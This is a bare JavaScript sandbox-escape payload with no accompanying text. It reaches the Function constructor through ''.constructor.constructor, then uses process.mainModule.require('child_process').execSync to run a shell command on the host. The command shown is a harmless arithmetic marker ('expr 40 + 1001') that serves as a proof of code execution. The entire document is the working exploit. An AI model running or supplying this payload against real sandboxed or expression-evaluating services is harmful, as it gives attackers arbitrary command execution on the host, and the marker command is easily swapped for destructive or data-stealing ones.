const k=Object.getOwnPropertyNames(Object.prototype)[0];
function walk(o,n){ return n? walk(o[k],n-1): o }
walk('',2)('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
